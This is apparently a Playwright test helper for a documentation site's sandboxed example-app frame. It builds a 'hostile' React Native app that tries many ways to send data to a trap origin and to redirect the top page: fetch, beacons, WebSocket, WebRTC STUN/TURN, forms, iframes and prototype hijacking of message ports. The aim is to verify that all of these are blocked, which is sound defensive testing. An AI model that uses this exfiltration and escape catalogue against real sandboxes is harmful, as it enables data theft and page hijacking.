import {expect, type Page} from '@playwright/test';
import {possessions} from './possessions.ts';

/** What a sample has by the press of a button: the component that draws it, as the frame gets it. */
const app = (setUp: string, onPress: string): string => `
  const {createElement, useState} = require('react');
  const {Button, Text, View} = require('react-native');
  ${setUp}
  exports.default = () => {
    const [text, setText] = useState('ready');
    const run = async () => { ${onPress} };
    return createElement(View, null,
      createElement(Text, null, text),
      createElement(Button, {title: 'Attack', onPress: () => void run()}));
  };`;

/** Runs attempts one after the other, whatever becomes of each. */
const inOrder = (attempts: readonly string[]): string =>
  attempts.map((code) => `try { ${code} } catch {}`).join('\n');

/** Ways to send something to `to`, by name; without a policy each of them arrives. */
const waysOut = {
  fetch: `await globalThis.fetch(to, {mode: 'no-cors'})`,
  xhr: `await new Promise((end) => {
    const request = new XMLHttpRequest();
    request.onloadend = end;
    request.open('POST', to);
    request.send('secret');
  })`,
  beacon: `navigator.sendBeacon(to, 'secret')`,
  ping: `add('a', {ping: to, href: '#there'}).click()`,
  image: `new Image().src = to`,
  background: `document.body.style.background = 'url(' + to + ')'`,
  font: `await new FontFace('hostile', 'url(' + to + ')').load()`,
  video: `add('video', {src: to, preload: 'auto'})`,
  script: `add('script', {src: to})`,
  style: `add('link', {rel: 'stylesheet', href: to})`,
  preload: `add('link', {rel: 'preload', as: 'script', href: to})`,
  import: `await import(to)`,
  worker: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + to + '")'])))`,
  socket: `await new Promise((end) => {
    const socket = new WebSocket(to.replace('http', 'ws'));
    socket.onerror = socket.onopen = end;
  })`,
  events: `new EventSource(to)`,
  frame: `add('iframe', {src: to})`,
  'frame-with-text': `add('iframe', {srcdoc: '<img src="' + to + '">'})`,
  object: `add('object', {data: to})`,
  popup: `globalThis.open(to)`,
  link: `add('a', {href: to, target: '_blank'}).click()`,
  form: `add('form', {action: to, method: 'post', target: '_blank'}).submit()`,
} as const;

/** Ways to lead the page of the reader somewhere else. */
const waysUp = {
  top: `top.location.href = to`,
  parent: `parent.location.replace(to)`,
  'open-top': `globalThis.open(to, '_top')`,
  'link-top': `add('a', {href: to, target: '_top'}).click()`,
  'form-top': `add('form', {action: to, target: '_top'}).submit()`,
} as const;

/** Ways to lead the frame itself somewhere else by an element, which code cannot create. */
const waysByElement = {
  'own-link': `add('a', {href: to}).click()`,
  refresh: `add('meta', {httpEquiv: 'refresh', content: '0;url=' + to})`,
} as const;

const add = `const add = (name, parts) => {
  const element = Object.assign(document.createElement(name), parts);
  document.body.append(element);
  return element;
};`;

const scriptOf = (origin: string, ways: Readonly<Record<string, string>>): string =>
  inOrder(Object.entries(ways).map(([name, code]) => `const to = '${origin}/${name}'; ${code};`));

/** Collects candidates from a server, which sends packets to it. */
const gather = (server: string): string => `
  const Connection = realm.RTCPeerConnection ?? realm.webkitRTCPeerConnection;
  const connection = new Connection({iceServers: [${server}], iceCandidatePoolSize: 2});
  connection.createDataChannel('data');
  connection.setLocalDescription(await connection.createOffer());`;

/** Ways below HTTP to reach a host, in a realm: with packets of UDP, and with connections of TCP. */
const waysBelow = {
  stun: gather('{urls: `stun:${host}`}'),
  turn: gather('{urls: `turn:${host}?transport=tcp`, username: `secret`, credential: `a`}'),
  preconnect: `const link = realm.document.createElement('link');
    realm.document.body.append(Object.assign(link, {rel: 'preconnect', href: 'http://' + host}));`,
} as const;

/** Realms that code can look for, each as an expression. */
const realms = {
  'the frame': 'globalThis',
  'of an empty frame': `(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow;
  })()`,
  'of an object': `(() => {
    const object = Object.assign(document.createElement('object'), {data: 'about:blank'});
    document.body.append(object);
    return object.contentWindow;
  })()`,
  'of another window': `open('about:blank')`,
} as const;

const belowIn = (realm: string): string =>
  Object.values(waysBelow)
    .map(
      (code) =>
        `try { const realm = ${realm}; if (realm) await (async () => {${code}})(); } catch {}`,
    )
    .join('\n');

/** Where code tries to send something: over HTTP, and to a port below it. */
export type Trap = {readonly origin: string; readonly host: string};

/** The names under which a trap hears of each way over HTTP. */
export const namesOfWays: readonly string[] = Object.keys(waysOut);

/** All ways, for a page without a policy. */
export const unguarded = ({origin, host}: Trap): string =>
  `${add} void (async () => {
    const host = '${host}';
    ${belowIn('globalThis')}
    ${scriptOf(origin, waysOut)}
  })();`;

/** What an app says that got nothing. */
export const gotNothing = `got: ; refused: ${Object.keys(possessions).length}; ports: 0`;

/** An app that tries every way to reach a trap or to lead the page away, and says what it could get hold of. */
export const hostileApp = ({origin, host}: Trap): string =>
  app(
    `${add}
    const ports = new Set();
    const prototype = Object.getPrototypeOf(new MessageChannel().port1);
    const post = prototype.postMessage;
    prototype.postMessage = function (...parts) {
      ports.add(this);
      return Reflect.apply(post, this, parts);
    };
    for (const name of ['call', 'apply', 'bind']) {
      const real = Function.prototype[name];
      Object.defineProperty(Function.prototype, name, {value: function (first, ...rest) {
        if (first === Math.port) ports.add(first);
        return Reflect.apply(real, this, [first, ...rest]);
      }});
    }`,
    `const got = [];
    let refused = 0;
    const host = '${host}';
    ${Object.entries(possessions)
      .map(([name, code]) => `try { ${code}; got.push('${name}'); } catch { refused += 1; }`)
      .join('\n')}
    ${Object.values(realms)
      .map((realm) => belowIn(realm))
      .join('\n')}
    ${scriptOf(origin, {...waysOut, ...waysUp, ...waysByElement})}
    setText('got: ' + got.join(', ') + '; refused: ' + refused +
      '; ports: ' + [...ports].filter((port) => port === Math.port).length);`,
  );

/** An app that leads its own frame to a trap. */
export const leavingApp = ({origin}: Trap): string => app('', `location.href = '${origin}/away';`);

/** Gives apps the frame's way to the page, which they could have only by a mistake in the frame. */
export async function exposePort(page: Page): Promise<void> {
  await page.route(/\/assets\/play\/\d[\d.]*\.\w+\.js$/, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({response: answer, body: `Math.port = port;${await answer.text()}`});
  });
}

/** Lets the page of an example load another app. */
export async function replaceApp(page: Page, code: string): Promise<void> {
  await page.route('**/assets/play/*-basic-store.*.json', (route) =>
    route.fulfill({
      json: {files: [{name: 'app.js', code}], entry: 'app', props: {}, functions: []},
    }),
  );
}

/** Expects that the page of the reader is where it was, in one window. */
export async function expectSamePlace(page: Page, address: string): Promise<void> {
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  await expect(page.getByRole('article')).toContainText('useCoinStore');
}
